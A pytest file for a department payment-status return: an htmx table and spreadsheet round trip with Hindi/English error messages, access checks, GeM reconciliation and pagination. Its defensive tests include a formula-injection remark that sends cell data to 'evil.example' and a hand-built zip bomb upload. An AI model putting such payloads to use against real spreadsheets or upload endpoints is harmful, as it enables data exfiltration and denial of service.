"""The department's payment status return: the htmx table and the spreadsheet, all-or-nothing, with row messages in
Hindi and English; the history kept; GeM's later payment date reconciled."""
import io
import re
from datetime import date, timedelta

import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from gemcell.payments.models import PaymentReport, PaymentState, PaymentStatus, ReportSource
from gemcell.payments.queries import today
from tests.payments.conftest import HTMX, html_of


def reports(db):
    return db.session.scalar(sa.select(sa.func.count(PaymentReport.id)))


def row(order, **values):
    return {f'{name}-{order.id}': value for name, value in values.items()}


def post_rows(client, orders, filled, headers=HTMX):
    data = {'order': [str(o.id) for o in orders]}
    for values in filled:
        data.update(values)
    return client.post('/payments/status', data=data, headers=headers)


def test_officer_sees_his_departments_unpaid_orders_only(ledger, client, login):
    login(ledger['officer'])
    html = html_of(client.get('/payments/status'))
    numbers = {key: o.number for key, o in ledger['orders'].items()}
    for key in 'abef':
        assert numbers[key] in html
    for key in 'cdg':  # paid, or another department's
        assert numbers[key] not in html
    # a row not reported on offers every reason, none chosen
    row_a = html.split(f'id="status-row-{ledger["orders"]["a"].id}"')[1].split('</tr>')[0]
    assert 'value="bill_not_received"' in row_a and 'value="dispute"' in row_a and 'selected' not in row_a


def test_officer_marks_two_orders_paid_and_one_delayed_in_one_save(ledger, client, login, db):
    login(ledger['officer'])
    a, b, f = (ledger['orders'][k] for k in 'abf')
    paid_on = (today() - timedelta(days=1)).isoformat()
    before = reports(db)
    response = post_rows(client, [a, b, f], [
        row(a, state='paid', paid_date=paid_on, reference='PFMS/001'),
        row(b, state='paid', paid_date=paid_on, reference='PFMS/002'),
        row(f, state='delayed', reason='bill_not_received')])
    assert response.status_code == 200
    html = html_of(response)
    assert '<html' not in html and 'id="payment-status"' in html and 'HX-Request' in response.vary
    assert 'flash' in response.headers['HX-Trigger']
    assert reports(db) == before + 3
    db.session.expire_all()
    statuses = {s.order_id: s for s in db.session.scalars(sa.select(PaymentStatus))}
    assert statuses[a.id].state is PaymentState.paid and statuses[a.id].reference == 'PFMS/001'
    assert statuses[f.id].reason_code == 'bill_not_received' and statuses[f.id].source is ReportSource.table
    # the paid orders leave the table; the delayed one stays with its reason
    assert a.number not in html.split('saved-summary')[-1].split('</div>', 1)[-1]
    assert f'status-row-{f.id}' in html and f'status-row-{a.id}' not in html
    # saving the same again keeps no new report
    post_rows(client, [f], [row(f, state='delayed', reason='bill_not_received')])
    assert reports(db) == before + 3
    # each row shows the reason given for it, chosen
    page = html_of(client.get('/payments/status'))
    row_f = page.split(f'id="status-row-{f.id}"')[1].split('</tr>')[0]
    assert 'value="bill_not_received" selected' in row_f and 'value="delayed" selected' in row_f
    row_e = page.split(f'id="status-row-{ledger["orders"]["e"].id}"')[1].split('</tr>')[0]
    assert 'value="dispute" selected' in row_e and 'value="bill_not_received" selected' not in row_e


def test_one_bad_row_saves_nothing_and_says_why_in_hindi_and_english(ledger, client, login, db):
    login(ledger['officer'])
    a, b, f = (ledger['orders'][k] for k in 'abf')
    before = reports(db)
    filled = [row(a, state='paid', paid_date=today().isoformat(), reference='PFMS/001'),
              row(b, state='paid', paid_date=(today() + timedelta(days=3)).isoformat(), reference=''),
              row(f, state='delayed', reason='other', remark='')]
    response = post_rows(client, [a, b, f], filled)
    assert response.status_code == 422
    html = html_of(response)
    assert reports(db) == before
    assert 'भुगतान तिथि भविष्य की नहीं हो सकती' in html
    assert 'भुगतान का सन्दर्भ' in html  # the reference is missing
    assert 'विलम्ब का कारण लिखें' in html
    assert f'id="status-row-{b.id}" class="has-error' in html and f'id="status-row-{a.id}" class="has-error' not in html
    # what was typed is kept
    assert 'value="PFMS/001"' in html
    client.post('/auth/language', data={'locale': 'en'})
    html = html_of(post_rows(client, [a, b, f], filled))
    assert 'Payment date cannot be in the future.' in html
    assert 'Give the payment’s reference (PFMS / e-payment number).' in html
    assert 'Write the reason for the delay (the reason chosen is “other”).' in html


def test_another_departments_order_cannot_be_reported(ledger, client, login, db):
    login(ledger['officer'])
    g = ledger['orders']['g']
    before = reports(db)
    response = post_rows(client, [g], [row(g, state='paid', paid_date=today().isoformat(), reference='X')])
    assert response.status_code == 422 and reports(db) == before


def test_reviewer_cannot_file_a_departments_return(ledger, client, login_as):
    login_as('reviewer')
    assert client.get('/payments/status').status_code == 403


# --- the spreadsheet -------------------------------------------------------------------------------------------------

def download(client):
    response = client.get('/payments/status.xlsx')
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.data))


def upload(client, workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return client.post('/payments/status/upload', data={'file': (buffer, 'return.xlsx')},
                       content_type='multipart/form-data')


def fill(sheet, number, *values):
    for cells in sheet.iter_rows(min_row=2):
        if cells[0].value == number:
            for cell, value in zip(cells[7:], values):
                cell.value = value
            return
    raise AssertionError(f'{number} not in the sheet')


def test_spreadsheet_round_trip(ledger, client, login, db):
    login(ledger['officer'])
    workbook = download(client)
    sheet = workbook.active
    numbers = [r[0].value for r in sheet.iter_rows(min_row=2)]
    assert set(numbers) == {ledger['orders'][k].number for k in 'abef'}
    a, f = ledger['orders']['a'], ledger['orders']['f']
    fill(sheet, a.number, 'भुगतान किया गया', today() - timedelta(days=2), 'PFMS/XL/1')
    fill(sheet, f.number, 'Not paid yet', None, None, 'बजट / धनराशि उपलब्ध नहीं')
    response = upload(client, workbook)
    assert response.status_code == 303
    db.session.expire_all()
    statuses = {s.order_id: s for s in db.session.scalars(sa.select(PaymentStatus))}
    assert statuses[a.id].state is PaymentState.paid and statuses[a.id].source is ReportSource.spreadsheet
    assert statuses[a.id].paid_date == today() - timedelta(days=2)
    assert statuses[f.id].reason_code == 'budget'


def test_spreadsheet_with_a_bad_row_saves_nothing_and_lists_each_row(ledger, client, login, db):
    login(ledger['officer'])
    workbook = download(client)
    sheet = workbook.active
    a, b = ledger['orders']['a'], ledger['orders']['b']
    fill(sheet, a.number, 'paid', today(), 'PFMS/OK')
    fill(sheet, b.number, 'not paid yet', None, None, 'the moon was full')
    sheet.append([ledger['orders']['g'].number, '', '', 1, None, None, None, 'paid', today(), 'X'])
    before = reports(db)
    response = upload(client, workbook)
    assert response.status_code == 422
    assert reports(db) == before
    html = html_of(response)
    assert 'पंक्ति' in html and '“the moon was full” सूची में दिया गया कारण नहीं है' in html
    assert f'आदेश “{ledger["orders"]["g"].number}” आपके विभाग का आदेश नहीं है' in html


def test_a_file_that_is_not_the_return_is_refused(ledger, client, login, db):
    login(ledger['officer'])
    response = client.post('/payments/status/upload', data={'file': (io.BytesIO(b'not a workbook'), 'x.xlsx')},
                           content_type='multipart/form-data')
    assert response.status_code == 422 and 'एक्सेल वर्कबुक' in html_of(response)
    other = Workbook()
    other.active.append(['Something', 'else'])
    assert upload(client, other).status_code == 422


# --- reconciliation ---------------------------------------------------------------------------------------------------

def test_gem_payment_imported_after_the_report_wins_and_the_history_stays(ledger, client, login, db,
                                                                          create_payment_report):
    from gemcell.payments.queries import get_order_payment
    b = ledger['orders']['b']
    create_payment_report(order=b, by=ledger['officer'], state=PaymentState.delayed, reason_code='budget')
    db.session.commit()
    assert get_order_payment(b).payment.paid is None
    b.payment_date = date(2026, 6, 28)  # a later GeM import (it stamps the order's modified_dt)
    db.session.commit()
    item = get_order_payment(b)
    assert (item.payment.paid, item.payment.source) == (date(2026, 6, 28), 'gem')
    login(ledger['officer'])
    html = html_of(client.get(f'/payments/orders/{b.id}'))
    assert 'बजट / धनराशि उपलब्ध नहीं' in html  # the department's report is still shown


def test_a_tampered_row_is_reported_on_top(ledger, client, login, db):
    login(ledger['officer'])
    g = ledger['orders']['g']
    html = html_of(post_rows(client, [g], [row(g, state='delayed', reason='budget')]))
    assert 'आपके विभाग का आदेश नहीं है' in html


# --- hostile spreadsheets ------------------------------------------------------------------------------------------

def test_a_remark_that_looks_like_a_formula_comes_back_as_typed(ledger, client, login, db):
    """What the department typed is written into the download as text: a spreadsheet never runs it."""
    login(ledger['officer'])
    f = ledger['orders']['f']
    formula = '=HYPERLINK("http://evil.example/?"&A2,"details")'
    response = post_rows(client, [f], [row(f, state='delayed', reason='other', remark=formula)])
    assert response.status_code == 200
    sheet = download(client).active
    cells = next(cells for cells in sheet.iter_rows(min_row=2) if cells[0].value == f.number)
    assert cells[11].value == formula and cells[11].data_type == 's'


def test_a_zip_bomb_is_refused_before_it_is_unpacked(ledger, client, login, db):
    import zipfile
    login(ledger['officer'])
    buffer = io.BytesIO()
    download(client).save(buffer)
    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
            zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr('xl/media/image1.bin', bytes(12 * 1024 * 1024))  # 12 MB of zeros in about 12 KB
    assert len(bomb.getvalue()) < 100_000
    bomb.seek(0)
    response = client.post('/payments/status/upload', data={'file': (bomb, 'return.xlsx')},
                           content_type='multipart/form-data')
    assert response.status_code == 422
    assert 'एक्सेल फ़ाइल खोलने पर असामान्य रूप से बड़ी हो जाती है' in html_of(response)


def test_many_pages_are_offered_around_this_one(ledger, client, login, db, create_order, monkeypatch):
    """A department with hundreds of pages of unpaid orders gets the first, the last and the pages near its own,
    not a link to every page."""
    from gemcell.payments import views
    monkeypatch.setattr(views, 'PER_PAGE', 1)
    for n in range(10):  # 14 unpaid orders in all: 14 pages of one
        create_order(number=f'GEMC-5116877000010{n:02d}', buyer_department=ledger['department'],
                     crac_date=date(2026, 6, 1), total_value=1000)
    db.session.commit()
    login(ledger['officer'])
    html = html_of(client.get('/payments/status?page=8'))
    pages = set(re.findall(r'<a href="/payments/status\?page=(\d+)">', html))
    assert pages == {'1', '5', '6', '7', '9', '10', '11', '14'}
    assert '<strong aria-current="page">8</strong>' in html and html.count('class="gap"') == 2
